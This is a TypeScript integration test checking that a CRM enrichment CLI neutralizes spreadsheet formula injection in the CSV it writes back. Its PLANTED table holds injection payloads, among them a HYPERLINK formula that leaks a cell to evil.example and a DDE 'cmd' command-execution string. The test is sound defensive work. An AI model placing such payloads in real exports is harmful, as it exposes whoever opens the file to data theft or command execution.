/**
 * The import file a CRM takes back as an update (`rows.csv`), as a user makes it: exports written the way Salesforce
 * Data Loader, HubSpot and Dynamics 365 write them (test/fixtures/crm/update/), each run through `signal-kit enrich
 * --format csv --wait` against the sandbox, with no flag naming the id or identifier column. The sandbox's answers
 * pass through a proxy that plants company names made to run as spreadsheet formulas (ASCII and full-width). Each
 * file is read back by Python's csv module and held to the export read by Python too: every record once, in input
 * order, under the id column as the export named it, Dynamics' checksum and modified-on beside it, the user's values
 * byte for byte, the service's text neutralized, LinkedIn URLs absolute.
 */
import { copyFile, mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JobResult } from '../../activities/jobs/types.ts';
import { type ApiProxy, startApiProxy } from '../../testkit/api-proxy.ts';
import { type JobEnv, startJobEnv } from '../../testkit/job-env.ts';
import { repoRoot, runCli } from '../helpers/cli.ts';
import { readCsvWithPython } from '../helpers/tables.ts';

const FIXTURES = join(repoRoot, 'test/fixtures/crm/update');

/** Company names someone else wrote, by the domain the service answers them for. */
const PLANTED: Record<string, string> = {
  'fabrikam.com': '=HYPERLINK("http://evil.example/?leak="&A1,"Fabrikam")',
  'northwindtraders.com': "+cmd|' /C calc'!A0",
  'tailspintoys.com': '-2+3+cmd',
  'litwareinc.com': '@SUM(1+1)',
  'proseware.com': '＝HYPERLINK("http://evil.example")',
  'wideworldimporters.com': '＋1+1',
  'alpineskihouse.com': '－1+1',
  'coho-winery.com': '＠SUM(1)',
  'margiestravel.com': '\t=1+1',
  'treyresearch.net': '\r=1+1',
};
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/** Every object of a JSON answer naming a planted domain gets the planted name (companies, signals' companies). */
function plant(value: unknown): void {
  if (Array.isArray(value)) for (const item of value) plant(item);
  else if (typeof value === 'object' && value !== null) {
    const object = value as Record<string, unknown>;
    const planted = typeof object['domain'] === 'string' ? PLANTED[object['domain']] : undefined;
    if (planted !== undefined && typeof object['name'] === 'string') object['name'] = planted;
    for (const inner of Object.values(object)) plant(inner);
  }
}

/** The enrichment columns the test reads, named as docs/crm-round-trip.md says for each CRM. */
const NAMES = {
  salesforce: {
    status: 'Signal_Status__c',
    companyName: 'Signal_Company_Name__c',
    companyDomain: 'Signal_Company_Domain__c',
    input: 'Signal_Input__c',
    linkedin: 'Signal_Company_Linkedin_Url__c',
  },
  labels: {
    status: 'Signal Status',
    companyName: 'Signal Company Name',
    companyDomain: 'Signal Company Domain',
    input: 'Signal Input',
    linkedin: 'Signal Company Linkedin Url',
  },
};

interface Export {
  file: string;
  delimiter: string;
  /** The flags besides input and output: the kept columns only, never the id or identifier column. */
  flags: readonly string[];
  /** The columns rows.csv starts with, as the export spelled them (the kept and CRM update columns after the id). */
  leading: readonly string[];
  names: (typeof NAMES)['salesforce'];
}

const DYNAMICS_LEADING = ['(Do Not Modify) Account', '(Do Not Modify) Row Checksum', '(Do Not Modify) Modified On'];
const EXPORTS: Export[] = [
  ['salesforce-dataloader-accounts.csv', ',', ['--keep-columns', 'Phone'], ['Id', 'Phone'], NAMES.salesforce] as const,
  [
    'hubspot-companies.csv',
    ',',
    ['--keep-columns', 'Phone Number'],
    ['Record ID', 'Phone Number'],
    NAMES.labels,
  ] as const,
  ['dynamics-accounts.csv', ';', [], DYNAMICS_LEADING, NAMES.labels] as const,
].map(([file, delimiter, flags, leading, names]) => ({ file, delimiter, flags, leading, names }));

let env: JobEnv;
let proxy: ApiProxy;
let dir: string;

describe('rows.csv: the file a CRM takes back as an update', () => {
  beforeAll(async () => {
    env = await startJobEnv({ sandbox: { seed: 27 } });
    proxy = await startApiProxy(env.sandbox.url);
    proxy.rewriteAnswers((_path, body) => {
      const answer = JSON.parse(body.toString('utf8')) as unknown;
      plant(answer);
      return Buffer.from(JSON.stringify(answer), 'utf8');
    });
    await env.startWorker({ url: proxy.url });
    dir = await mkdtemp(join(tmpdir(), 'signal-kit-crm-file-'));
  });
  afterAll(async () => {
    await env?.stop();
    await proxy?.stop();
  });

  for (const crm of EXPORTS) {
    it(`${crm.file}: every record once, in order, under its own id and values; the service's text neutralized`, async () => {
      await copyFile(join(FIXTURES, crm.file), join(dir, crm.file));
      const jobId = crm.file.replace(/\.csv$/, '');
      const args = ['enrich', '--input', crm.file, '--output', 'out', '--job-id', jobId, '--limit', '3'];
      const result = await runCli(
        [...args, '--format', 'csv', ...crm.flags, '--wait'],
        {
          cwd: dir,
          env: env.childEnv(),
          timeout: 120_000,
        },
        'minus-one',
      );
      expect(result.code, result.stderr).toBe(0);
      expect((JSON.parse(result.stdout) as JobResult).status).toBe('completed');

      const [exportHeader, ...records] = await readCsvWithPython(join(FIXTURES, crm.file), crm.delimiter);
      const [header, ...rows] = await readCsvWithPython(join(dir, 'out', jobId, 'rows.csv'));
      expect(header?.slice(0, crm.leading.length)).toEqual(crm.leading);
      const column = (name: string) => {
        const i = (header as string[]).indexOf(name);
        expect(i, name).toBeGreaterThanOrEqual(0);
        return i;
      };
      // Every record once, in the export's order, with its id and the export's own values byte for byte.
      expect(rows).toHaveLength(records.length);
      rows.forEach((cells, i) => {
        const record = records[i] as string[];
        for (const name of crm.leading) {
          expect(cells[column(name)], `${record[0]} ${name}`).toBe(record[(exportHeader as string[]).indexOf(name)]);
        }
      });

      // What the service answered for a planted company is neutralized: a leading quote, then the text as sent.
      const planted = rows.filter((cells) => PLANTED[cells[column(crm.names.companyDomain)] ?? ''] !== undefined);
      expect(planted.length).toBeGreaterThanOrEqual(2);
      for (const cells of planted) {
        const domain = cells[column(crm.names.companyDomain)] as string;
        expect(cells[column(crm.names.companyName)], domain).toBe(`'${PLANTED[domain]}`);
      }
      for (const cells of rows) {
        cells.forEach((cell, i) => {
          const name = (header as string[])[i] as string;
          const users = crm.leading.includes(name) || name === crm.names.input;
          if (!users) expect(FORMULA_START.test(cell), `${cells[0]} ${name}: ${cell}`).toBe(false);
        });
        const linkedin = cells[column(crm.names.linkedin)] ?? '';
        if (linkedin !== '') expect(linkedin).toMatch(/^https:\/\/www\.linkedin\.com\/company\/[^/]+/);
      }
      expect(rows.filter((cells) => cells[column(crm.names.linkedin)] !== '').length).toBeGreaterThan(0);
      expect(rows.filter((cells) => cells[column(crm.names.status)] === 'ok').length).toBeGreaterThanOrEqual(3);
    });
  }

  it('a value the user wrote is given back byte for byte, even one that starts like a formula', async () => {
    const [, ...hubspot] = await readCsvWithPython(join(dir, 'out', 'hubspot-companies', 'rows.csv'));
    expect(hubspot.map((cells) => cells[1])).toEqual(['+1 425 555 0101', '+44 20 7946 0000', '', '@home', '']);
    const wingtip = hubspot.find((cells) => cells[0] === '7002') ?? [];
    expect(wingtip).toContain('-Wingtip Toys');
    const [dynamicsHeader, ...dynamics] = await readCsvWithPython(join(dir, 'out', 'dynamics-accounts', 'rows.csv'));
    expect(dynamics.map((cells) => cells[1])).toEqual([
      '+Zm9vYmFyQmF6',
      'aGVsbG8gd29ybGQ=',
      'd29ybGQ/Pz8=',
      '/w8PDw==',
    ]);
    const input = (dynamicsHeader ?? []).indexOf('Signal Input');
    expect(dynamics[1]?.[input]).toBe('-Wingtip Toys');
    const [, ...salesforce] = await readCsvWithPython(join(dir, 'out', 'salesforce-dataloader-accounts', 'rows.csv'));
    expect(salesforce.map((cells) => cells[1])).toEqual([
      '+1 425 555 0101',
      '-',
      '',
      '+1 425 555 0199',
      '',
      '',
      '',
      '=1+1',
    ]);
  });
});
